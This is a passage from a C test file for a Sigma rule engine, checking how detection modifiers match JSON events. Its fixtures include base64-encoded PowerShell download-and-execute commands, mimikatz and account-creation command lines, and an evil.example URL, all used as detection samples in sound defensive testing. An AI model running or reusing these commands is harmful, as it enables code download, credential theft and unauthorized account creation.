/* SPDX-License-Identifier: Apache-2.0 */
/*
 * test_rule_eval.c: end-to-end semantics of Sigma rules: YAML text -> vg_ruleset ->
 * vg_match_event on a parsed JSON event.
 *
 * Each table row is {name, detection, event, want}. The detection is the body of a
 * `detection:` section written without its indentation (the helper indents it); it is
 * wrapped in a rule with `logsource: {product: test}`, and no logsource mapping is loaded,
 * so the rule applies to every event. The event is JSON written with ' instead of " to keep
 * the table readable (no row needs a literal apostrophe). A row passes when the rule
 * compiles without error and matches (want 1) or does not match (want 0) the event. Every
 * failing row is printed with its name and the diagnostics; the test fails at the end.
 *
 * Covered: every modifier, wildcards and escapes, case rules, numbers, booleans, null,
 * arrays, field resolution (dotted path, unique leaf, ambiguous leaf, leaf without spaces,
 * field mappings), keyword searches, lists and maps, condition forms, placeholders, Sigma
 * filters, multiple matching rules, and logsource mappings with and without a declared
 * logsource.
 *
 * Reference semantics: the Sigma specification (rules, modifiers appendix, filters) and the
 * documented value semantics of engine/sigma/value.c and engine/match/eval.c.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "vigil/diag.h"
#include "vigil/event.h"
#include "vigil/match.h"
#include "vigil/parse.h"
#include "vigil/ruleset.h"

#define MAX_HITS 16

/* ---- helpers ---- */

typedef struct env {
    vg_ruleset *rs;
    vg_diags *d;
    vg_match_scratch *s;
} env;

/* Called after vg_ruleset_new and before the rules are added (mappings, placeholders). */
typedef void (*prep_fn)(vg_ruleset *rs, vg_diags *d);

static void env_init(env *e)
{
    e->rs = vg_ruleset_new();
    e->d = vg_diags_new();
    e->s = NULL;
    assert_non_null(e->rs);
    assert_non_null(e->d);
}

static void env_free(env *e)
{
    vg_match_scratch_free(e->s);
    vg_ruleset_free(e->rs);
    vg_diags_free(e->d);
    memset(e, 0, sizeof(*e));
}

/* Add one rule file and finish the ruleset. */
static void env_load(env *e, const char *yaml)
{
    assert_int_equal(vg_ruleset_add_rules(e->rs, "test.yml", yaml, strlen(yaml), e->d), VG_OK);
    assert_int_equal(vg_ruleset_finish(e->rs, e->d), VG_OK);
    e->s = vg_match_scratch_new(e->rs);
    assert_non_null(e->s);
}

static void print_diags(const vg_diags *d)
{
    for (size_t i = 0; i < vg_diags_count(d); i++) {
        const vg_diag *g = vg_diags_get(d, i);
        print_error("    %s %s:%u:%u [%s] %s\n", g->sev == VG_SEV_ERROR ? "error" : "warning",
                    g->loc.file ? g->loc.file : "?", (unsigned)g->loc.line, (unsigned)g->loc.col,
                    g->reason, g->msg);
    }
}

/* Parse the event (' stands for ") and run the ruleset on it. Returns the number of hits,
 * or -1 if the event does not parse. */
static long
env_match(env *e, const char *event_sq, const vg_logsource *decl, uint32_t *hits, size_t cap)
{
    size_t len = strlen(event_sq);
    char *json = malloc(len + 1);
    assert_non_null(json);
    for (size_t i = 0; i <= len; i++)
        json[i] = event_sq[i] == '\'' ? '"' : event_sq[i];
    vg_event *ev = vg_event_new(NULL);
    assert_non_null(ev);
    vg_perr perr = {0, NULL};
    long n = -1;
    if (vg_parse_json(ev, json, len, &perr) == VG_OK && vg_event_index(ev) == VG_OK) {
        n = (long)vg_match_event(e->rs, e->s, ev, decl, hits, cap);
    } else {
        print_error("    event does not parse at %zu: %s: %s\n", perr.offset,
                    perr.msg ? perr.msg : "?", json);
    }
    vg_event_free(ev);
    free(json);
    return n;
}

/* The detection body `det` indented under `detection:` in a minimal rule. */
static void rule_text(const char *det, char *buf, size_t cap)
{
    size_t at = (size_t)snprintf(
            buf, cap, "title: row\nid: r1\nlogsource: {product: test}\ndetection:\n    ");
    for (const char *p = det; *p && at + 6 < cap; p++) {
        buf[at++] = *p;
        if (*p == '\n') {
            memcpy(buf + at, "    ", 4);
            at += 4;
        }
    }
    assert_true(at + 6 < cap);
    buf[at++] = '\n';
    buf[at] = '\0';
}

typedef struct eval_row {
    const char *name;
    const char *det;   /* detection body */
    const char *event; /* JSON with ' for " */
    int want;          /* 1 match, 0 no match */
} eval_row;

/* Run every row; print the failing ones; return how many failed. */
static int run_rows(const char *group, const eval_row *rows, size_t n, prep_fn prep)
{
    int failed = 0;
    char text[8192];
    for (size_t i = 0; i < n; i++) {
        const eval_row *r = &rows[i];
        env e;
        env_init(&e);
        if (prep)
            prep(e.rs, e.d);
        rule_text(r->det, text, sizeof(text));
        env_load(&e, text);
        if (vg_diags_errors(e.d) != 0 || vg_ruleset_count(e.rs) != 1) {
            print_error("%s row '%s': rule did not compile (%zu rules)\n%s\n", group, r->name,
                        vg_ruleset_count(e.rs), text);
            print_diags(e.d);
            failed++;
            env_free(&e);
            continue;
        }
        uint32_t hits[MAX_HITS];
        long got = env_match(&e, r->event, NULL, hits, MAX_HITS);
        if (got != r->want) {
            print_error("%s row '%s': got %ld hits, want %d\n  event: %s\n%s", group, r->name, got,
                        r->want, r->event, text);
            failed++;
        }
        env_free(&e);
    }
    return failed;
}

#define RUN(rows, prep)                                                                            \
    do {                                                                                           \
        int failed_ = run_rows(__func__, rows, sizeof(rows) / sizeof(rows[0]), prep);              \
        if (failed_)                                                                               \
            fail_msg("%s: %d of %zu rows failed", __func__, failed_,                               \
                     sizeof(rows) / sizeof(rows[0]));                                              \
    } while (0)

/* One selection `sel` with the given body and `condition: sel`. */
#define SEL(body) "sel:\n    " body "\ncondition: sel"

/* ---- string match modifiers ---- */

static void test_contains_startswith_endswith(void **state)
{
    (void)state;
    static const eval_row rows[] = {
            {"contains hit", SEL("CommandLine|contains: whoami"),
             "{'CommandLine':'cmd /c whoami /all'}", 1},
            {"contains miss", SEL("CommandLine|contains: whoami"), "{'CommandLine':'cmd /c dir'}",
             0},
            {"contains ignores case", SEL("CommandLine|contains: WHOAMI"),
             "{'CommandLine':'cmd /c WhoAmI'}", 1},
            {"contains whole value", SEL("CommandLine|contains: whoami"),
             "{'CommandLine':'whoami'}", 1},
            {"startswith hit", SEL("Image|startswith: 'C:\\Windows\\'"),
             "{'Image':'C:\\\\Windows\\\\System32\\\\cmd.exe'}", 1},
            {"startswith miss", SEL("Image|startswith: 'C:\\Windows\\'"),
             "{'Image':'D:\\\\C:\\\\Windows\\\\cmd.exe'}", 0},
            {"endswith hit", SEL("Image|endswith: '\\cmd.exe'"),
             "{'Image':'C:\\\\Windows\\\\System32\\\\cmd.exe'}", 1},
            {"endswith ignores case", SEL("Image|endswith: '\\CMD.EXE'"),
             "{'Image':'C:\\\\Windows\\\\System32\\\\cmd.exe'}", 1},
            {"endswith miss", SEL("Image|endswith: '\\cmd.exe'"),
             "{'Image':'C:\\\\Windows\\\\cmd.exe.bak'}", 0},
            {"plain value is an exact match", SEL("Image: cmd.exe"),
             "{'Image':'C:\\\\Windows\\\\cmd.exe'}", 0},
            {"plain value exact hit", SEL("Image: cmd.exe"), "{'Image':'CMD.exe'}", 1},
            {"contains list is OR", SEL("CommandLine|contains: [whoami, mimikatz]"),
             "{'CommandLine':'run mimikatz.exe'}", 1},
            {"contains list miss", SEL("CommandLine|contains: [whoami, mimikatz]"),
             "{'CommandLine':'run notepad.exe'}", 0},
            {"contains|all every value", SEL("CommandLine|contains|all: [net, user, /add]"),
             "{'CommandLine':'net user bob pass /add'}", 1},
            {"contains|all one missing", SEL("CommandLine|contains|all: [net, user, /add]"),
             "{'CommandLine':'net user bob'}", 0},
            {"contains|all any order", SEL("CommandLine|contains|all: [/add, net]"),
             "{'CommandLine':'net user bob /add'}", 1},
            {"all|contains order of modifiers", SEL("CommandLine|all|contains: [/add, net]"),
             "{'CommandLine':'net user bob /add'}", 1},
            {"all on a scalar field needs every value", SEL("User|all: [alice, bob]"),
             "{'User':'alice'}", 0},
            {"all on an array field", SEL("Tags|all: [alice, bob]"),
             "{'Tags':['bob','carol','alice']}", 1},
            {"all on an array field missing one", SEL("Tags|all: [alice, bob]"),
             "{'Tags':['bob','carol']}", 0},
            {"startswith list", SEL("Image|startswith: ['C:\\Temp\\', 'C:\\Users\\']"),
             "{'Image':'C:\\\\Users\\\\bob\\\\a.exe'}", 1},
            {"endswith|all", SEL("Name|endswith|all: [.exe, e.exe]"), "{'Name':'note.exe'}", 1},
            {"contains on absent field", SEL("CommandLine|contains: whoami"), "{'Other':'whoami'}",
             0},
    };
    RUN(rows, NULL);
}

/* ---- re ---- */

static void test_re(void **state)
{
    (void)state;
    static const eval_row rows[] = {
            {"re hit", SEL("CommandLine|re: 'whoami\\s+/all'"),
             "{'CommandLine':'cmd /c whoami   /all'}", 1},
            {"re searches anywhere", SEL("CommandLine|re: 'who.mi'"),
             "{'CommandLine':'x whoami y'}", 1},
            {"re anchored miss", SEL("CommandLine|re: '^cmd'"), "{'CommandLine':'xcmd'}", 0},
            {"re is case-sensitive", SEL("CommandLine|re: 'WHOAMI'"), "{'CommandLine':'whoami'}",
             0},
            {"re|i ignores case", SEL("CommandLine|re|i: 'WHOAMI'"), "{'CommandLine':'whoami'}", 1},
            {"re without m: ^ at start only", SEL("CommandLine|re: '^whoami$'"),
             "{'CommandLine':'cmd\\nwhoami\\nexit'}", 0},
            {"re|m: ^ and $ at lines", SEL("CommandLine|re|m: '^whoami$'"),
             "{'CommandLine':'cmd\\nwhoami\\nexit'}", 1},
            {"re without s: dot stops at newline", SEL("CommandLine|re: 'cmd.whoami'"),
             "{'CommandLine':'cmd\\nwhoami'}", 0},
            {"re|s: dot matches newline", SEL("CommandLine|re|s: 'cmd.whoami'"),
             "{'CommandLine':'cmd\\nwhoami'}", 1},
            {"re|i|m together", SEL("CommandLine|re|i|m: '^WHOAMI$'"),
             "{'CommandLine':'cmd\\nwhoami\\nexit'}", 1},
            {"re list is OR", SEL("CommandLine|re: ['^a+$', '^b+$']"), "{'CommandLine':'bbb'}", 1},
            {"re alternation and class", SEL("Image|re: '\\\\(cmd|pwsh)\\.exe$'"),
             "{'Image':'C:\\\\x\\\\pwsh.exe'}", 1},
            {"re no wildcard meaning for *", SEL("Name|re: 'a*b'"), "{'Name':'b'}", 1},
            {"re on a number", SEL("EventID|re: '^46[0-9]{2}$'"), "{'EventID':4688}", 1},
            {"re on absent field", SEL("CommandLine|re: '.*'"), "{'Other':'x'}", 0},
    };
    RUN(rows, NULL);
}

/* ---- cidr ---- */

static void test_cidr(void **state)
{
    (void)state;
    static const eval_row rows[] = {
            {"v4 inside", SEL("Ip|cidr: 10.0.0.0/8"), "{'Ip':'10.1.2.3'}", 1},
            {"v4 outside", SEL("Ip|cidr: 10.0.0.0/8"), "{'Ip':'11.0.0.1'}", 0},
            {"v4 /32 host", SEL("Ip|cidr: 192.168.1.7/32"), "{'Ip':'192.168.1.7'}", 1},
            {"v4 /32 other host", SEL("Ip|cidr: 192.168.1.7/32"), "{'Ip':'192.168.1.8'}", 0},
            {"v4 list is OR", SEL("Ip|cidr: [192.168.0.0/16, 172.16.0.0/12]"),
             "{'Ip':'172.20.1.1'}", 1},
            {"v4 network vs v6 value", SEL("Ip|cidr: 10.0.0.0/8"), "{'Ip':'fe80::1'}", 0},
            {"v4 network vs mapped v6 value", SEL("Ip|cidr: 10.0.0.0/8"),
             "{'Ip':'::ffff:10.1.2.3'}", 1},
            {"v4 non-IP value", SEL("Ip|cidr: 10.0.0.0/8"), "{'Ip':'not-an-ip'}", 0},
            {"v4 text with an address inside", SEL("Ip|cidr: 10.0.0.0/8"), "{'Ip':'host 10.1.2.3'}",
             0},
            {"v4 five octets", SEL("Ip|cidr: 10.0.0.0/8"), "{'Ip':'10.1.2.3.4'}", 0},
            {"v4 number value", SEL("Ip|cidr: 10.0.0.0/8"), "{'Ip':10}", 0},
            {"v4 empty value", SEL("Ip|cidr: 10.0.0.0/8"), "{'Ip':''}", 0},
            {"v6 inside", SEL("Ip|cidr: 'fe80::/10'"), "{'Ip':'fe80::1'}", 1},
            {"v6 outside", SEL("Ip|cidr: 'fe80::/10'"), "{'Ip':'2001:db8::1'}", 0},
            {"v6 /32", SEL("Ip|cidr: '2001:db8::/32'"), "{'Ip':'2001:db8:1::5'}", 1},
            {"v6 network vs v4 value", SEL("Ip|cidr: '::/0'"), "{'Ip':'10.0.0.1'}", 0},
            {"v6 non-IP value", SEL("Ip|cidr: 'fe80::/10'"), "{'Ip':'fe80::zz'}", 0},
            {"cidr|neq outside", SEL("Ip|cidr|neq: 10.0.0.0/8"), "{'Ip':'8.8.8.8'}", 1},
            {"cidr|neq inside", SEL("Ip|cidr|neq: 10.0.0.0/8"), "{'Ip':'10.0.0.8'}", 0},
            {"cidr on array", SEL("Ip|cidr: 10.0.0.0/8"), "{'Ip':['8.8.8.8','10.9.9.9']}", 1},
    };
    RUN(rows, NULL);
}

/* ---- encodings ---- */

/* Expected encodings computed with python3 (base64.b64encode, str.encode('utf-16le')). */
static void test_base64(void **state)
{
    (void)state;
    static const eval_row rows[] = {
            {"base64 exact", SEL("Payload|base64: cmd"), "{'Payload':'Y21k'}", 1},
            {"base64 is not a substring match", SEL("Payload|base64: cmd"),
             "{'Payload':'Y21kZA=='}", 0},
            {"base64 is case-sensitive", SEL("Payload|base64: cmd"), "{'Payload':'y21K'}", 0},
            {"base64offset is case-sensitive", SEL("Data|base64offset|contains: 'http://'"),
             "{'Data':'AHR0CDOVL2V2AWWUZXHHBXBSZS9H'}", 0},
            {"base64 plain text does not match", SEL("Payload|base64: cmd"), "{'Payload':'cmd'}",
             0},
            {"base64|contains", SEL("CommandLine|base64|contains: whoami"),
             "{'CommandLine':'echo d2hvYW1p | base64 -d | sh'}", 1},
            {"base64|contains miss", SEL("CommandLine|base64|contains: whoami"),
             "{'CommandLine':'echo whoami'}", 0},
            /* 'http://evil.example/a' prefixed with 0, 1 ('X') and 2 ('XY') bytes */
            {"base64offset offset 0", SEL("Data|base64offset|contains: 'http://'"),
             "{'Data':'aHR0cDovL2V2aWwuZXhhbXBsZS9h'}", 1},
            {"base64offset offset 1", SEL("Data|base64offset|contains: 'http://'"),
             "{'Data':'WGh0dHA6Ly9ldmlsLmV4YW1wbGUvYQ=='}", 1},
            {"base64offset offset 2", SEL("Data|base64offset|contains: 'http://'"),
             "{'Data':'WFlodHRwOi8vZXZpbC5leGFtcGxlL2E='}", 1},
            /* the value at the very end: 'ab http://', 'abchttp://' */
            {"base64offset at the end (pad)", SEL("Data|base64offset|contains: 'http://'"),
             "{'Data':'YWIgaHR0cDovLw=='}", 1},
            {"base64offset at the end", SEL("Data|base64offset|contains: 'http://'"),
             "{'Data':'YWJjaHR0cDovLw=='}", 1},
            {"base64offset other text", SEL("Data|base64offset|contains: 'http://'"),
             "{'Data':'aHR4cDovL2V2aWwuZXhhbXBsZS9h'}", 0},
            {"base64offset plain text", SEL("Data|base64offset|contains: 'http://'"),
             "{'Data':'http://evil.example/a'}", 0},
            {"base64offset list", SEL("Data|base64offset|contains: ['ftp://', 'http://']"),
             "{'Data':'WGh0dHA6Ly9ldmlsLmV4YW1wbGUvYQ=='}", 1},
            /* UTF-16LE 'IEX (New-Object Net.WebClient)' prefixed with '', 'x', 'xx' */
            {"wide|base64offset offset 0", SEL("CommandLine|wide|base64offset|contains: IEX"),
             "{'CommandLine':'powershell -enc "
             "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACk"
             "A'}",
             1},
            {"wide|base64offset offset 2", SEL("CommandLine|wide|base64offset|contains: IEX"),
             "{'CommandLine':'powershell -enc "
             "eABJAEUAWAAgACgATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQ"
             "AKQA='}",
             1},
            {"wide|base64offset offset 1", SEL("CommandLine|wide|base64offset|contains: IEX"),
             "{'CommandLine':'powershell -enc "
             "eAB4AEkARQBYACAAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4"
             "AdAApAA=='}",
             1},
            {"wide|base64offset ascii encoding", SEL("CommandLine|wide|base64offset|contains: IEX"),
             "{'CommandLine':'powershell -enc SUVYIChOZXctT2JqZWN0IE5ldC5XZWJDbGllbnQp'}", 0},
            {"utf16le|base64offset = wide", SEL("CommandLine|utf16le|base64offset|contains: IEX"),
             "{'CommandLine':'"
             "eABJAEUAWAAgACgATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQ"
             "AKQA='}",
             1},
            {"utf16be|base64offset offset 0", SEL("CommandLine|utf16be|base64offset|contains: IEX"),
             "{'CommandLine':'"
             "AEkARQBYACAAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAAp"
             "'}",
             1},
            {"utf16be|base64offset offset 2", SEL("CommandLine|utf16be|base64offset|contains: IEX"),
             "{'CommandLine':'"
             "AHgASQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0"
             "ACk='}",
             1},
            {"utf16be|base64offset offset 1", SEL("CommandLine|utf16be|base64offset|contains: IEX"),
             "{'CommandLine':'"
             "AHgAeABJAEUAWAAgACgATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBu"
             "AHQAKQ=='}",
             1},
            {"utf16|base64offset with BOM", SEL("CommandLine|utf16|base64offset|contains: IEX"),
             "{'CommandLine':'"
             "//5JAEUAWAAgACgATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQ"
             "AKQA='}",
             1},
            {"utf16|base64offset needs the BOM",
             SEL("CommandLine|utf16|base64offset|contains: IEX"),
             "{'CommandLine':'"
             "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACk"
             "A'}",
             0},
            /* UTF-16LE 'Invoke-Expression (iwr http://x)' */
            {"classic -enc Invoke-Expression",
             SEL("CommandLine|wide|base64offset|contains: Invoke-Expression"),
             "{'CommandLine':'powershell.exe -NoProfile -enc "
             "SQBuAHYAbwBrAGUALQBFAHgAcAByAGUAcwBzAGkAbwBuACAAKABpAHcAcgAgAGgAdAB0AHAAOgAvAC8"
             "AeAApAA=='}",
             1},
            {"wide|base64 exact", SEL("Data|wide|base64: cmd"), "{'Data':'YwBtAGQA'}", 1},
    };
    RUN(rows, NULL);
}

static void test_windash(void **state)
{
    (void)state;
    static const eval_row rows[] = {
            {"hyphen", SEL("CommandLine|windash|contains: ' -enc '"),
             "{'CommandLine':'powershell -enc AAAA'}", 1},
            {"slash", SEL("CommandLine|windash|contains: ' -enc '"),
             "{'CommandLine':'powershell /enc AAAA'}", 1},
            {"en dash", SEL("CommandLine|windash|contains: ' -enc '"),
             "{'CommandLine':'powershell \\u2013enc AAAA'}", 1},
            {"em dash", SEL("CommandLine|windash|contains: ' -enc '"),
             "{'CommandLine':'powershell \\u2014enc AAAA'}", 1},
            {"horizontal bar", SEL("CommandLine|windash|contains: ' -enc '"),
             "{'CommandLine':'powershell \\u2015enc AAAA'}", 1},
            {"raw UTF-8 en dash", SEL("CommandLine|windash|contains: ' -enc '"),
             "{'CommandLine':'powershell \xe2\x80\x93"
             "enc AAAA'}",
             1},
            {"other character", SEL("CommandLine|windash|contains: ' -enc '"),
             "{'CommandLine':'powershell +enc AAAA'}", 0},
            {"no dash", SEL("CommandLine|windash|contains: ' -enc '"),
             "{'CommandLine':'powershell enc AAAA'}", 0},
            {"two dashes are not one", SEL("CommandLine|windash|contains: ' -enc '"),
             "{'CommandLine':'powershell --enc AAAA'}", 0},
            {"minus U+2212 is not a windash", SEL("CommandLine|windash|contains: ' -enc '"),
             "{'CommandLine':'powershell \\u2212enc AAAA'}", 0},
            {"rule written with slash", SEL("CommandLine|windash|contains: ' /c '"),
             "{'CommandLine':'cmd -c whoami'}", 1},
            {"rule written with en dash",
             SEL("CommandLine|windash|contains: ' \xe2\x80\x93"
                 "c '"),
             "{'CommandLine':'cmd /c whoami'}", 1},
            {"without contains is exact", SEL("Flag|windash: '-f'"), "{'Flag':'/F'}", 1},
            {"exact miss", SEL("Flag|windash: '-f'"), "{'Flag':'/f x'}", 0},
            {"two dashes, mixed", SEL("CommandLine|windash|contains: '-a -b'"),
             "{'CommandLine':'x /a \\u2014b'}", 1},
            {"windash list", SEL("CommandLine|windash|contains: ['-nop', '-enc']"),
             "{'CommandLine':'pwsh /nop'}", 1},
            {"without windash no permutation", SEL("CommandLine|contains: ' -enc '"),
             "{'CommandLine':'powershell /enc AAAA'}", 0},
            {"contains before windash", SEL("CommandLine|contains|windash: ' -enc '"),
             "{'CommandLine':'powershell /enc AAAA'}", 1},
    };
    RUN(rows, NULL);
}

/* ---- exists, cased ---- */

static void test_exists_cased(void **state)
{
    (void)state;
    static const eval_row rows[] = {
            {"exists true, present", SEL("Image|exists: true"), "{'Image':'a'}", 1},
            {"exists true, empty string", SEL("Image|exists: true"), "{'Image':''}", 1},
            {"exists true, null is present", SEL("Image|exists: true"), "{'Image':null}", 1},
            {"exists true, object", SEL("Image|exists: true"), "{'Image':{'a':1}}", 1},
            {"exists true, absent", SEL("Image|exists: true"), "{'Other':'a'}", 0},
            {"exists false, absent", SEL("Image|exists: false"), "{'Other':'a'}", 1},
            {"exists false, present", SEL("Image|exists: false"), "{'Image':'a'}", 0},
            {"exists false, null is present", SEL("Image|exists: false"), "{'Image':null}", 0},
            {"exists on a dotted path", SEL("Event.Image|exists: true"), "{'Event':{'Image':'x'}}",
             1},
            {"exists on a unique leaf", SEL("Image|exists: true"), "{'Event':{'Image':'x'}}", 1},
            {"exists with another field", SEL("EventID: 4738\n    PasswordLastSet|exists: true"),
             "{'EventID':4738,'PasswordLastSet':'-'}", 1},
            {"cased exact hit", SEL("Image|cased: CMD.exe"), "{'Image':'CMD.exe'}", 1},
            {"cased exact miss", SEL("Image|cased: CMD.exe"), "{'Image':'cmd.exe'}", 0},
            {"cased contains hit", SEL("Image|contains|cased: Win"), "{'Image':'C:\\\\Windows'}",
             1},
            {"cased contains miss", SEL("Image|contains|cased: Win"), "{'Image':'c:\\\\windows'}",
             0},
            {"cased endswith", SEL("Image|cased|endswith: .EXE"), "{'Image':'a.exe'}", 0},
            {"cased with wildcard", SEL("Image|cased: 'A*Z'"), "{'Image':'AbcZ'}", 1},
            {"cased with wildcard miss", SEL("Image|cased: 'A*Z'"), "{'Image':'abcz'}", 0},
    };
    RUN(rows, NULL);
}

/* ---- numeric compare, neq ---- */

static void test_compare(void **state)
{
    (void)state;
    static const eval_row rows[] = {
            {"gt above", SEL("Count|gt: 10"), "{'Count':11}", 1},
            {"gt equal", SEL("Count|gt: 10"), "{'Count':10}", 0},
            {"gt below", SEL("Count|gt: 10"), "{'Count':9}", 0},
            {"gt string number", SEL("Count|gt: 10"), "{'Count':'11'}", 1},
            {"gt fraction", SEL("Count|gt: 10"), "{'Count':10.5}", 1},
            {"gt rule fraction", SEL("Count|gt: 1.5"), "{'Count':2}", 1},
            {"gt rule fraction miss", SEL("Count|gt: 1.5"), "{'Count':1}", 0},
            {"gt negative", SEL("Count|gt: -5"), "{'Count':-4}", 1},
            {"gt hex string", SEL("Count|gt: 16"), "{'Count':'0x20'}", 1},
            {"gt non-numeric", SEL("Count|gt: 10"), "{'Count':'eleven'}", 0},
            {"gt number with text", SEL("Count|gt: 10"), "{'Count':'11 items'}", 0},
            {"gt boolean", SEL("Count|gt: 0"), "{'Count':true}", 0},
            {"gt null", SEL("Count|lt: 10"), "{'Count':null}", 0},
            {"gt empty", SEL("Count|lt: 10"), "{'Count':''}", 0},
            {"gt absent", SEL("Count|gt: 10"), "{'Other':11}", 0},
            {"gt array any", SEL("Count|gt: 10"), "{'Count':[5,20]}", 1},
            {"gt list is OR", SEL("Count|gt: [100, 5]"), "{'Count':6}", 1},
            {"gte equal", SEL("Count|gte: 10"), "{'Count':10}", 1},
            {"gte string equal", SEL("Count|gte: 10"), "{'Count':'10'}", 1},
            {"gte below", SEL("Count|gte: 10"), "{'Count':9}", 0},
            {"lt below", SEL("Count|lt: 10"), "{'Count':9}", 1},
            {"lt negative", SEL("Count|lt: 10"), "{'Count':-5}", 1},
            {"lt equal", SEL("Count|lt: 10"), "{'Count':10}", 0},
            {"lt string", SEL("Count|lt: 10"), "{'Count':'9'}", 1},
            {"lte equal", SEL("Count|lte: 10"), "{'Count':10}", 1},
            {"lte above", SEL("Count|lte: 10"), "{'Count':11}", 0},
            {"gt large integers exact", SEL("Count|gt: 9007199254740992"),
             "{'Count':9007199254740993}", 1},
            {"range with two entries",
             "sel:\n    Count|gte: 5\nsel2:\n    Count|lt: 10\n"
             "condition: sel and sel2",
             "{'Count':7}", 1},
            {"neq different", SEL("User|neq: admin"), "{'User':'bob'}", 1},
            {"neq equal", SEL("User|neq: admin"), "{'User':'admin'}", 0},
            {"neq equal ignoring case", SEL("User|neq: admin"), "{'User':'ADMIN'}", 0},
            {"neq absent field", SEL("User|neq: admin"), "{'Other':'x'}", 1},
            {"neq list none equal", SEL("User|neq: [admin, root]"), "{'User':'bob'}", 1},
            {"neq list one equal", SEL("User|neq: [admin, root]"), "{'User':'root'}", 0},
            {"neq number", SEL("EventID|neq: 4688"), "{'EventID':4689}", 1},
            {"neq number equal", SEL("EventID|neq: 4688"), "{'EventID':4688}", 0},
            {"neq number as string", SEL("EventID|neq: 4688"), "{'EventID':'4688'}", 0},
            {"neq array with the value", SEL("User|neq: admin"), "{'User':['bob','admin']}", 0},
            {"neq with contains", SEL("CommandLine|contains|neq: whoami"),
             "{'CommandLine':'cmd /c dir'}", 1},
            {"neq with contains equal", SEL("CommandLine|contains|neq: whoami"),
             "{'CommandLine':'cmd /c whoami'}", 0},
            {"neq and another field", SEL("EventID: 1\n    User|neq: admin"),
             "{'EventID':1,'User':'bob'}", 1},
    };
    RUN(rows, NULL);
}

/* ---- fieldref ---- */

static void test_fieldref(void **state)
{
    (void)state;
    static const eval_row rows[] = {
            {"equal", SEL("Target|fieldref: Source"), "{'Source':'abc','Target':'abc'}", 1},
            {"different", SEL("Target|fieldref: Source"), "{'Source':'abc','Target':'abd'}", 0},
            {"equal ignoring case", SEL("Target|fieldref: Source"),
             "{'Source':'abc','Target':'ABC'}", 1},
            {"cased", SEL("Target|fieldref|cased: Source"), "{'Source':'abc','Target':'ABC'}", 0},
            {"cased equal", SEL("Target|fieldref|cased: Source"), "{'Source':'abc','Target':'abc'}",
             1},
            {"contains", SEL("Target|fieldref|contains: Source"),
             "{'Source':'abc','Target':'xxABCxx'}", 1},
            {"contains miss", SEL("Target|fieldref|contains: Source"),
             "{'Source':'abc','Target':'xxabxcx'}", 0},
            {"contains cased", SEL("Target|fieldref|contains|cased: Source"),
             "{'Source':'abc','Target':'xxABCxx'}", 0},
            {"startswith", SEL("Target|fieldref|startswith: Source"),
             "{'Source':'abc','Target':'abcdef'}", 1},
            {"startswith miss", SEL("Target|fieldref|startswith: Source"),
             "{'Source':'abc','Target':'xabcdef'}", 0},
            {"endswith", SEL("Target|fieldref|endswith: Source"),
             "{'Source':'abc','Target':'xyzABC'}", 1},
            {"endswith miss", SEL("Target|fieldref|endswith: Source"),
             "{'Source':'abc','Target':'abcx'}", 0},
            {"referenced field absent", SEL("Target|fieldref: Source"), "{'Target':'abc'}", 0},
            {"field absent", SEL("Target|fieldref: Source"), "{'Source':'abc'}", 0},
            {"values are not patterns", SEL("Target|fieldref: Source"),
             "{'Source':'a*','Target':'abc'}", 0},
            {"number and string", SEL("Target|fieldref: Source"), "{'Source':5,'Target':'5'}", 1},
            {"neq different", SEL("Target|fieldref|neq: Source"), "{'Source':'a','Target':'b'}", 1},
            {"neq equal", SEL("Target|fieldref|neq: Source"), "{'Source':'a','Target':'a'}", 0},
            {"list is OR", SEL("Target|fieldref: [Source, Other]"),
             "{'Source':'a','Other':'b','Target':'b'}", 1},
            {"dotted paths", SEL("Dst.User|fieldref: Src.User"),
             "{'Src':{'User':'bob'},'Dst':{'User':'bob'}}", 1},
    };
    RUN(rows, NULL);
}

/* ---- expand ---- */

static void prep_placeholders(vg_ruleset *rs, vg_diags *d)
{
    (void)d;
    static const char *const admins[] = {"root", "adm_*"};
    static const char *const sites[] = {"paris", "oslo"};
    static const char *const tool[] = {"mimikatz"};
    assert_int_equal(vg_ruleset_set_placeholder(rs, "Admins", admins, 2), VG_OK);
    assert_int_equal(vg_ruleset_set_placeholder(rs, "Site", sites, 2), VG_OK);
    assert_int_equal(vg_ruleset_set_placeholder(rs, "Tool", tool, 1), VG_OK);
    static const char file[] = "placeholders:\n  Servers: ['srv*', 'dc01']\n";
    assert_int_equal(vg_ruleset_add_placeholders(rs, "ph.yml", file, strlen(file), d), VG_OK);
}

static void test_expand(void **state)
{
    (void)state;
    static const eval_row rows[] = {
            {"first value", SEL("User|expand: '%Admins%'"), "{'User':'root'}", 1},
            {"second value with wildcard", SEL("User|expand: '%Admins%'"), "{'User':'adm_bob'}", 1},
            {"values ignore case", SEL("User|expand: '%Admins%'"), "{'User':'ROOT'}", 1},
            {"no value", SEL("User|expand: '%Admins%'"), "{'User':'bob'}", 0},
            {"placeholder inside text", SEL("Host|expand: 'srv-%Site%-*'"),
             "{'Host':'srv-oslo-01'}", 1},
            {"placeholder inside text miss", SEL("Host|expand: 'srv-%Site%-*'"),
             "{'Host':'srv-rome-01'}", 0},
            {"two placeholders", SEL("Host|expand: '%Site%-%Site%'"), "{'Host':'oslo-paris'}", 1},
            {"escaped percent", SEL("Name|expand: '\\%plain%Site%'"), "{'Name':'%plainparis'}", 1},
            {"escaped percent is literal", SEL("Name|expand: '\\%plain%Site%'"),
